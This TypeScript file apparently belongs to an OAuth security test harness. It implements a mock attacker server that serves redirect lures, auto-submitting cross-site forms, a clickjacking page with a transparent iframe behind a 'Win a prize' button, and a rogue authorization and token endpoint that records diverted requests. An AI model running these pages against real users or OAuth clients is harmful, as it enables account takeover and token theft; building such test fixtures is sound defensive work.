// The attacker's server: pages that lure and frame, an authorization server that clients can be told to use, and a place
// where what was diverted arrives. It answers as it is told to.

import type { Handler } from './adapter.js';
import { bodyOf, json, page, pathOf, queryOf, redirect } from './http.js';

export interface Plan {
  /** Where its authorization endpoint sends the browser; null: it lets it wait. */
  answer: string | null;
  /** What its token endpoint answers. */
  token: Readonly<Record<string, unknown>> | null;
}
export interface Dishonest {
  /** What its token endpoint answers, also to whoever waits there. */
  readonly answer: (token: Plan['token']) => void;
  /** Goes on with a browser that waits at its authorization endpoint. */
  readonly send: (to: string) => void;
  readonly handler: Handler;
}

const script = (value: string): string => JSON.stringify(value).replaceAll('<', '\\u003c');

/** `onWait`: somebody waits for an answer of one of its endpoints, having sent this. */
export function dishonest(onWait: (at: 'authorize' | 'token', request: string) => void): Dishonest {
  const plan: Plan = { answer: null, token: null };
  let waiting: ((to: string) => void) | null = null;
  const asking: ((token: Plan['token']) => void)[] = [];
  return {
    answer: (token) => {
      plan.token = token;
      for (const answer of asking.splice(0)) answer(token);
    },
    send: (to) => {
      if (waiting === null) plan.answer = to;
      else waiting(to);
      waiting = null;
    },
    handler: async (request, response) => {
      const body = await bodyOf(request);
      const seen = `${request.url} ${JSON.stringify(request.headers)} ${body}`;
      const { to = '', login = '' } = queryOf(request);
      switch (pathOf(request)) {
        case '/lure':
          return page(response, `<script>location.href=${script(to)}</script>`);
        case '/post': {
          const url = new URL(to);
          const fields = [...url.searchParams].map(
            ([k, v]) => `<input name="${k}" value="${v.replaceAll('"', '&quot;')}">`,
          );
          url.search = '';
          return page(
            response,
            `<form id=f method=post action="${url.href}">${fields.join('')}</form><script>document.getElementById("f").submit()</script>`,
          );
        }
        case '/frame':
          return page(
            response,
            '<style>iframe{opacity:.01;position:absolute;inset:0;width:900px;height:700px;border:0}</style>' +
              `<button>Win a prize</button><iframe name=f src="${to.replaceAll('&', '&amp;').replaceAll('"', '&quot;')}"></iframe>${login}`,
          );
        case '/as/authorize':
          if (plan.answer === null) {
            waiting = (next) => {
              redirect(response, next);
            };
            onWait('authorize', seen);
          } else {
            redirect(response, plan.answer);
            plan.answer = null;
          }
          return;
        default:
          // The token request of a client, at its own endpoint or diverted from another's.
          if (request.method === 'POST' && /token$/.test(pathOf(request))) {
            const answer = (token: Plan['token']) =>
              token === null ? json(response, { error: 'server_error' }, 400) : json(response, token);
            if (plan.token !== null) return answer(plan.token);
            asking.push(answer);
            return onWait('token', seen);
          }
          page(response, 'evil');
      }
    },
  };
}
